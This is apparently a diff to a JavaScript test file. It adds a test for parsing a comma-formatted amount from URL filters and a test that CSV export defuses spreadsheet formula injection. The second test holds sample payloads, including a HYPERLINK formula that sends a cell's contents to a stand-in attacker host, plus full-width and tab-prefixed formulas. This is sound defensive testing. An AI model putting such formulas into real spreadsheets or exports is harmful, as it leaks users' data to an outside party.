@@ -30,6 +30,7 @@ test('filters get their values from the URL; invalid values are dropped', () => 
   expect(
     read({ statuses: ['X'], created: 'soon', no: '', merchants: [], least: '1e9', sort: 'x', other: '1' }),
   ).toEqual({});
+  expect(read({ least: '1,500.00' })).toEqual({ least: '1500.00' });
   expect(read({ after: 'abc', sort: 'OLDEST_FIRST' })).toEqual({ after: 'abc', sort: 'OLDEST_FIRST' });
 });
 
@@ -68,6 +69,12 @@ test('values in a CSV are quoted where necessary, and never run as a formula', (
       ],
     ),
   ).toBe(`a,b\r\n"1,5",'=SUM(A1)\r\n-1.50,'-x\r\n"say ""hi""",\r\n`);
+});
+
+test('a formula that begins within a cell of a CSV, or in full width, is defused as in exports', () => {
+  expect(toCsv(['order'], [['A;=HYPERLINK("http://evil.test/?"&A1)'], ['＝1+1'], ['x\t=1+1']])).toBe(
+    `order\r\n"A;'=HYPERLINK(""http://evil.test/?""&A1)"\r\n'＝1+1\r\n"x\t'=1+1"\r\n`,
+  );
 });
 
 test('events are read completely, however their bytes are divided into pieces', async () => {
